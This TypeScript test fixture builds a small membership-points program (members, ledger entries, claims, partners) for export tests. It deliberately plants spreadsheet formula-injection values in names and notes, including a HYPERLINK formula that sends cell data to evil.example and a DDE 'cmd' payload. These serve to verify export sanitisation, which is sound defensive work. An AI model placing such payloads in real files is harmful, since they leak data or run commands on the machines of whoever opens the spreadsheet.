// A small program written by hand for the export tests: five members (one signed up after the export
// instant, one opted out of the leaderboard, one in a partner), a ledger with a reversal and negative
// points, three claims (approved, rejected, pending), two partners. Names, notes, reasons and evidence
// are hostile where a spreadsheet could run them. The expected rows are in the tests, computed by hand
// from PROGRAM.md.
import type { Put } from '../../src/store/state.js';
import { State } from '../../src/store/state.js';
import { Store } from '../../src/store/store.js';

/** The export instant: Monday 23 November 2026, 13:00 in Brussels. */
export const AT = Date.parse('2026-11-23T12:00:00Z');

export const HOSTILE = {
  bobName: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  doraName: '-2+3 Dora',
  b1Note: '+1',
  b1Evidence: '@SUM(A1:A9)',
  b2Reason: '\t=1',
  b2Evidence: '\r=1',
  a5Note: '-2+3',
  claim1Details: "=cmd|' /C calc'!A0",
  claim2Reason: '@SUM(1,2) is not a training',
  p1Name: 'Acme "Media", NV',
  p2Name: '@Evil Partner',
} as const;

const member = (id: string, name: string, signedUpAt: string, partnerId?: string): Put => [
  'members',
  { id, email: `${id}@example.com`, name, signedUpAt, ...(partnerId !== undefined && { partnerId }) },
];

const entry = (id: string, memberId: string, action: string, at: string, points: number, extra: Record<string, string> = {}): Put => [
  'ledger',
  { id, memberId, action, at, points, inputs: {}, source: 'import', by: 'cli:admin', edition: '2025-1', ...extra },
];

export const PUTS: Put[] = [
  member('ann', 'Ann Peeters', '2023-04-12'),
  member('bob', HOSTILE.bobName, '2026-01-10'),
  member('carl', 'Carl', '2026-12-01'),
  member('dora', HOSTILE.doraName, '2024-03-01', 'p1'),
  member('eve', 'Eve', '2025-11-20'),
  // Ann's third membership year (2025-04-12 to 2026-04-12) ends at 7,500: Enabler carried into the fourth.
  entry('a1', 'ann', 'cert.configurator', '2025-06-05T09:00:00.000Z', 750, { note: 'Configurator exam' }),
  entry('a2', 'ann', 'docs.add-info', '2025-09-09T09:00:00.000Z', 4250),
  entry('a3', 'ann', 'content.blog', '2026-01-15T09:00:00.000Z', 2500, { evidence: 'https://blog.example.com/ann' }),
  entry('b1', 'bob', 'course.complete', '2026-02-01T10:00:00.000Z', 250, { note: HOSTILE.b1Note, evidence: HOSTILE.b1Evidence }),
  entry('a4', 'ann', 'qa.answer', '2026-05-01T08:00:00.000Z', 25),
  entry('a5', 'ann', 'qa.downvote-received', '2026-06-01T08:00:00.000Z', -10, { note: HOSTILE.a5Note }),
  entry('r1', 'ann', 'qa.answer', '2026-06-02T08:00:00.000Z', -25, { reverses: 'a4', note: 'duplicate' }),
  entry('b2', 'bob', 'feedback.form', '2026-11-02T10:00:00.000Z', 50, { reason: HOSTILE.b2Reason, evidence: HOSTILE.b2Evidence }),
  // One instant, two members: Dora comes first (she was enrolled first).
  entry('e1', 'eve', 'qa.ask', '2026-11-05T10:00:00.000Z', 10),
  entry('d1', 'dora', 'cert.automation', '2026-11-05T10:00:00.000Z', 750),
  entry('b3', 'bob', 'cert.fundamentals', '2026-11-20T10:00:00.000Z', 500),
  ['preferences', { id: 'dora', leaderboardOptOut: true }],
  [
    'claims',
    {
      id: 'claim-1',
      kind: 'action',
      submittedBy: 'bob',
      submittedAt: '2026-11-01T09:00:00.000Z',
      action: 'feedback.form',
      dates: ['2026-10-30'],
      evidence: 'https://forms.example.com/1',
      details: HOSTILE.claim1Details,
      status: 'approved',
      decidedBy: 'admin-1',
      decidedAt: '2026-11-02T10:00:00.000Z',
      credited: ['b2'],
      notCredited: [],
    },
  ],
  [
    'claims',
    {
      id: 'claim-2',
      kind: 'attendance',
      submittedBy: 'ann',
      submittedAt: '2026-11-03T09:00:00.000Z',
      action: 'training.event',
      dates: ['2026-10-20', '2026-10-21'],
      title: 'Empower 2026',
      role: 'participant',
      attendees: ['zed@example.com', 'eve@example.com'],
      status: 'rejected',
      decidedBy: 'admin-2',
      decidedAt: '2026-11-04T09:00:00.000Z',
      reason: HOSTILE.claim2Reason,
    },
  ],
  ['claims', { id: 'claim-3', kind: 'action', submittedBy: 'eve', submittedAt: '2026-11-22T09:00:00.000Z', action: 'qa.ask', dates: ['2026-11-21'], status: 'pending' }],
  ['partners', { id: 'p1', name: HOSTILE.p1Name }],
  ['partners', { id: 'p2', name: HOSTILE.p2Name }],
  ['partnerActivities', { id: 'pa1', partnerId: 'p1', metric: 'technical.certification', at: '2026-03-10T10:00:00.000Z', count: 2, source: 'import', by: 'test' }],
  ['partnerActivities', { id: 'pa2', partnerId: 'p1', metric: 'business.event', at: '2025-06-01T10:00:00.000Z', count: 1, source: 'import', by: 'test' }],
  ['partnerActivities', { id: 'pa3', partnerId: 'p1', metric: 'business.blog-or-pr', at: '2026-02-01T10:00:00.000Z', count: 1, source: 'import', by: 'test' }],
];

/** The fixture in memory, as the store's State. */
export function fixtureState(): State {
  const state = new State();
  for (const put of PUTS) state.put(structuredClone(put));
  return state;
}

/** The fixture written to a real store file (closed again), for the CLI. */
export async function fixtureStore(db: string): Promise<void> {
  const store = await Store.open(db, { command: 'test' });
  try {
    await store.transact((tx) => {
      for (const put of PUTS) tx.put(structuredClone(put));
    });
  } finally {
    await store.close();
  }
}
